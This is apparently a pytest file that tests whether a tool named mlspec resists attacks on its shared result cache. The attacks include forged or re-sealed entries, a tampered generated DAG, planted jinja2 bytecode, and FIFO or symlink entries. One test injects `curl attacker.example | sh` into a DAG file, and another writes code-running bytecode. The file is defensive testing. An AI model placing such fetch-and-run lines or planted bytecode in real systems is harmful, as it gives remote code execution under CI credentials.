"""The result cache is a folder anyone with write access to it controls (a CI cache
restored between jobs, a shared team folder): its entries decide what `validate` reports
and whether `compile --check` compares anything, and jinja2 runs the compiled template
code kept there. Entries are sealed with a per-user HMAC key kept outside the folder; one
that does not verify is a miss."""

from __future__ import annotations

import hashlib
import json
import marshal
import os
import pickle
import shutil
from pathlib import Path

import pytest

from conftest import REPO, run_mlspec
from support.trees import snapshot

BAD_SPEC = REPO / "tests/cases/invalid/ref-unknown-slo/spec.yaml"
DAG = "web-events/airflow/dags/web_events__ingest_page_views.py"


@pytest.fixture
def cache_env(tmp_path: Path) -> dict[str, str]:
    """A cache folder of this test (the one that is attacked) and this user's key."""
    return {"MLSPEC_CACHE_DIR": str(tmp_path / "cache"), "MLSPEC_CACHE_KEY": str(tmp_path / "config/cache.key")}


def _entries(cache: Path, kind: str) -> list[Path]:
    return sorted((cache / kind).rglob("*.json"))


def _forge(path: Path, value: dict) -> None:
    """What an attacker writes: a well-formed entry (with or without a made-up seal)."""
    path.write_bytes(b"\0" * 32 + json.dumps(value, sort_keys=True).encode())


def test_a_forged_validation_entry_does_not_make_a_bad_spec_valid(tmp_path, cache_env):
    """Attack: overwrite the cache entry of a spec with errors by "no diagnostics": the next
    `mlspec validate` (say, in CI with a restored cache) reports the spec valid."""
    shutil.copy(BAD_SPEC, tmp_path / "spec.yaml")
    first = run_mlspec("validate", "spec.yaml", cwd=tmp_path, env=cache_env)
    assert first.returncode == 1 and "unknown SLO" in first.stderr
    (entry,) = _entries(Path(cache_env["MLSPEC_CACHE_DIR"]), "validate")
    for forged in (json.dumps({"diagnostics": []}).encode(), b"\0" * 32 + json.dumps({"diagnostics": []}).encode(),
                   entry.read_bytes()[:32] + json.dumps({"diagnostics": []}).encode()):
        entry.write_bytes(forged)

        again = run_mlspec("validate", "spec.yaml", cwd=tmp_path, env=cache_env)

        assert again.returncode == 1 and "unknown SLO" in again.stderr


def test_an_entry_is_not_valid_under_another_key(tmp_path, cache_env):
    """Attack: copy a genuine entry (of a valid spec) over the entry of a bad spec: it is
    sealed, but for another cache key, so it does not verify there."""
    shutil.copy(REPO / "specs/minimal.yaml", tmp_path / "good.yaml")
    shutil.copy(BAD_SPEC, tmp_path / "spec.yaml")
    cache = Path(cache_env["MLSPEC_CACHE_DIR"])
    assert run_mlspec("validate", "good.yaml", cwd=tmp_path, env=cache_env).returncode == 0
    (good,) = _entries(cache, "validate")
    assert run_mlspec("validate", "spec.yaml", cwd=tmp_path, env=cache_env).returncode == 1
    (bad,) = [p for p in _entries(cache, "validate") if p != good]
    bad.write_bytes(good.read_bytes())

    again = run_mlspec("validate", "spec.yaml", cwd=tmp_path, env=cache_env)

    assert again.returncode == 1 and "unknown SLO" in again.stderr


def test_compile_check_is_not_fooled_by_a_tampered_tree_and_a_forged_entry(project, cache_env):
    """Attack: in a pull request, tamper a generated DAG, update its hash in manifest.json,
    and (through a shared CI cache) forge the compile entry to record the new manifest: the
    cache then vouched for the tree and `compile --check` said "up to date"."""
    run_mlspec("compile", "specs/minimal.yaml", cwd=project, env=cache_env, check=True)
    dag = project / "generated" / DAG
    original = dag.read_text()
    tampered = original.replace("import ", "import os; os.system('curl attacker.example | sh')\nimport ", 1)
    dag.write_text(tampered)
    manifest = project / "generated/web-events/manifest.json"
    manifest_text = manifest.read_text().replace(hashlib.sha256(original.encode()).hexdigest(),
                                                 hashlib.sha256(tampered.encode()).hexdigest())
    manifest.write_text(manifest_text)
    cache = Path(cache_env["MLSPEC_CACHE_DIR"])
    (entry,) = _entries(cache, "compile")
    forged = {"system": "web-events", "manifest_sha256": hashlib.sha256(manifest_text.encode()).hexdigest()}
    for write in (lambda: entry.write_text(json.dumps(forged, sort_keys=True)), lambda: _forge(entry, forged)):
        write()

        check = run_mlspec("compile", "specs/minimal.yaml", "--check", cwd=project, env=cache_env)

        assert check.returncode == 1, check.stderr
        assert "generated is stale for: web-events" in check.stderr and "attacker.example" in check.stdout


def _plant_bytecode(cache: Path, marker: Path, templates: Path) -> int:
    """Replace every compiled template in the cache by code that creates `marker`, in
    jinja2's own format, for the very template source (so its checksum matches)."""
    import jinja2
    from jinja2.bccache import FileSystemBytecodeCache, bc_magic

    env = jinja2.Environment(loader=jinja2.FileSystemLoader(str(templates)))
    bcc = FileSystemBytecodeCache(str(cache / "jinja2"))
    code = compile(f"open({str(marker)!r}, 'w').write('pwned')\n", "<template>", "exec")
    planted = 0
    for name in env.list_templates():
        source, filename, _ = env.loader.get_source(env, name)
        path = cache / "jinja2" / f"__jinja2_{bcc.get_cache_key(name, filename)}.cache"
        if path.exists():
            path.write_bytes(bc_magic + pickle.dumps(bcc.get_source_checksum(source), 2) + marshal.dumps(code))
            planted += 1
    return planted


def test_planted_template_bytecode_is_not_run(project, cache_env, tmp_path):
    """Attack: rewrite the compiled templates jinja2 keeps in the cache folder (a valid
    bytecode file for each template's very source): the next compile ran the planted code
    as the user (in CI, with the job's tokens). mlspec's own templates ship precompiled, so
    the templates compiled (and cached) here are a user's template folder's, copies of them."""
    from mlspec.locations import template_dir

    templates = tmp_path / "user-templates"
    shutil.copytree(template_dir(), templates)
    cache_env = {**cache_env, "MLSPEC_TEMPLATES": str(templates)}
    run_mlspec("compile", "specs/minimal.yaml", cwd=project, env=cache_env, check=True)
    expected = snapshot(project / "generated")
    marker = tmp_path / "PWNED"
    assert _plant_bytecode(Path(cache_env["MLSPEC_CACHE_DIR"]), marker, templates) > 0
    shutil.rmtree(project / "generated")
    shutil.rmtree(Path(cache_env["MLSPEC_CACHE_DIR"]) / "compile", ignore_errors=True)  # no result cache answers

    result = run_mlspec("compile", "specs/minimal.yaml", cwd=project, env=cache_env)

    assert result.returncode == 0, result.stderr
    assert not marker.exists()
    assert snapshot(project / "generated") == expected


def test_cache_entries_that_are_links_or_fifos_are_misses(tmp_path, cache_env):
    """Attack: entries of the shared folder replaced by a FIFO (blocks the reader) or a
    link to /dev/zero (never ends)."""
    shutil.copy(REPO / "specs/minimal.yaml", tmp_path / "spec.yaml")
    assert run_mlspec("validate", "spec.yaml", cwd=tmp_path, env=cache_env).returncode == 0
    (entry,) = _entries(Path(cache_env["MLSPEC_CACHE_DIR"]), "validate")
    entry.unlink()
    os.mkfifo(entry)
    assert run_mlspec("validate", "spec.yaml", cwd=tmp_path, env=cache_env).returncode == 0
    entry.unlink()
    entry.symlink_to("/dev/zero")
    assert run_mlspec("validate", "spec.yaml", cwd=tmp_path, env=cache_env).returncode == 0


def test_the_key_is_private_and_a_key_others_can_read_turns_the_cache_off(tmp_path, cache_env):
    """The key is created 0600 outside the cache folder; a key file others can read (or
    a link in its place) is not used, so nothing is cached that they could forge."""
    shutil.copy(REPO / "specs/minimal.yaml", tmp_path / "spec.yaml")
    assert run_mlspec("validate", "spec.yaml", cwd=tmp_path, env=cache_env).returncode == 0
    key = Path(cache_env["MLSPEC_CACHE_KEY"])
    assert key.stat().st_mode & 0o777 == 0o600
    assert Path(cache_env["MLSPEC_CACHE_DIR"]) not in key.parents
    cache = Path(cache_env["MLSPEC_CACHE_DIR"])
    shutil.rmtree(cache)
    key.chmod(0o644)

    assert run_mlspec("validate", "spec.yaml", cwd=tmp_path, env=cache_env).returncode == 0
    assert not _entries(cache, "validate")
